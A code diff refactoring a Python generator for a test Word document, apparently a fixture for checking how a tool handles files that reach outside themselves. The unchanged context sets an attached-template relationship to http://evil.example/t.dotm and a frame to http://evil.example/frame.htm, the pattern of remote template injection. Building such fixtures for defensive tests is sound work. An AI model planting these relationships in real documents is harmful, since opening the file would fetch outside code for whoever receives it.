@@ -47,10 +47,8 @@ def related(links, mode=' TargetMode="External"'):
     return f'<Relationships xmlns="{PACKAGE}/relationships">{items}</Relationships>'
 
 
-@cache  # the same bytes in every second
-def reaching_out():
-    """A file with everything that can lead out of it, and with people in its properties."""
-    links = "".join(
+def paragraphs_with_links():
+    return "".join(
         (
             paragraph(f'<w:hyperlink r:id="rId90">{run("学校网页")}</w:hyperlink>'),
             paragraph(f'<w:hyperlink r:id="rId91">{run("本机文件")}</w:hyperlink>'),
@@ -59,13 +57,18 @@ def reaching_out():
             paragraph('<w:r><w:pict><v:imagedata r:href="rId93"/></w:pict></w:r>'),
         )
     )  # fmt: skip
+
+
+@cache  # the same bytes in every second
+def reaching_out():
+    """A file with everything that can lead out of it, and with people in its properties."""
     template = {"rId1": ("attachedTemplate", "http://evil.example/t.dotm")}
     frame = {"rId1": ("frame", "http://evil.example/frame.htm")}
     package = relationships({"word/document.xml": "officeDocument", "docProps/app.xml": "extended-properties"})
     core = f'<Relationship Id="c" Type="{PACKAGE}/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
     return zipped(
         {
-            **members_of(BODY + links),
+            **members_of(BODY + paragraphs_with_links()),
             "[Content_Types].xml": content_types(),
             "_rels/.rels": package.replace("</Relationships>", f"{core}</Relationships>"),
             "word/_rels/document.xml.rels": related(LINKS),
